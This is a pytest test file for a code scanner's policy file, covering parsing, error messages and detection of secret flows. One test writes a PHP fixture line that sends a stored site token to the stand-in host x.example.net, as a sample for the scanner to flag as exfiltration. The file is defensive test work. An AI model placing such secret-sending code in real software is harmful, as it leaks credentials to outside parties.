"""The policy file: what it may say, and errors that name file, line and key."""

from __future__ import annotations

from pathlib import Path

import pytest

from scanner.errors import ConfigurationError
from scanner.model.finding import Category, Finding, Severity
from scanner.pipeline import ScanOptions, scan
from scanner.triage.policy import load_policy, parse_policy

WHOLE = """\
fail-on = "medium"
reviewers = 2

[[allowed-destination]]
host = "*.services.example.org"
reason = "run by the university"

[[expected-flow]]
secret = "config.sms_token"
destination = "sms.example.net"
reason = "contract 12"

[[secret]]
label = "site.token"
origin = "redcap_config"
name = "site_token"

[[wrapper]]
callable = "site_send"
arguments = { 0 = "url", 1 = "payload" }
"""


def test_a_whole_policy_is_read() -> None:
    policy = parse_policy(WHOLE.encode(), "p.toml").policy
    assert (policy.fail_on, policy.reviewers, policy.allow_incomplete) == ("medium", 2, False)
    assert policy.allowed_destination[0].host == "*.services.example.org"
    assert policy.expected_flow[0].secret == "config.sms_token"  # noqa: S105  the name of a setting


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ('"medium"', '"some"', "p.toml:1: fail-on: Invalid enum value 'some'"),
        ("reviewers = 2", "reviewers = 3", "p.toml:2: reviewers: "),
        ("reviewers = 2", "exclude = ['vendor']", "p.toml:2: exclude: Object contains unknown field"),
        ("reviewers = 2", "reviewers 2", "p.toml:2: "),
        ('reason = "run by the university"', "", "p.toml:4: allowed-destination[1]: Object missing required field"),
        ('reason = "contract 12"', 'reason = ""', "p.toml:11: expected-flow[1].reason: "),
        ("*.services.example.org", "*.co.uk", "p.toml:5: allowed-destination[1].host: `*.co.uk` covers names"),
        ("*.services.example.org", "https://a.example", "p.toml:5: allowed-destination[1].host: "),
        ("sms.example.net", "*", "p.toml:10: expected-flow[1].destination: "),
        ('"redcap_config"', '"redcap"', "p.toml:13: unknown origin `redcap`"),
        ('0 = "url"', '0 = "adress"', "p.toml:18: unknown role `adress`"),
        ('name = "site_token"', 'nam = "site_token"', "p.toml:16: secret[1].nam: Object contains unknown field"),
    ],
)
def test_an_error_names_file_line_and_key(old: str, new: str, said: str) -> None:
    assert old in WHOLE
    with pytest.raises(ConfigurationError) as caught:
        parse_policy(WHOLE.replace(old, new, 1).encode(), "p.toml")
    assert str(caught.value).startswith(said)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("content", [b"\xff", b"a = [" * 30_000, b"x" * (2 << 20)], ids=["bytes", "deep", "large"])
def test_what_is_no_policy_is_one_error(content: bytes) -> None:
    with pytest.raises(ConfigurationError):
        parse_policy(content, "p.toml")


def test_a_missing_policy_is_one_error(tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match="correct the path"):
        load_policy(tmp_path / "none.toml")


def test_secrets_and_wrappers_of_the_policy_are_found_in_code(tmp_path: Path) -> None:
    (tmp_path / "a.php").write_text(
        "<?php function run() { site_send('https://x.example.net/', $GLOBALS['site_token']); }"
    )
    before = scan(str(tmp_path), ScanOptions(cache=None, jobs=1)).findings
    documents = parse_policy(WHOLE.encode(), "p.toml").signatures
    after = scan(str(tmp_path), ScanOptions(cache=None, jobs=1, policy_signatures=documents)).findings
    assert not outbound(before)
    assert {finding.destinations for finding in outbound(after)} == {("x.example.net",)}
    flows = [finding for finding in after if finding.category is Category.EXFILTRATION]
    assert [(flow.secrets, flow.severity) for flow in flows] == [(("site.token",), Severity.CRITICAL)]


def outbound(findings: tuple[Finding, ...]) -> list[Finding]:
    return [finding for finding in findings if finding.category is Category.EGRESS]
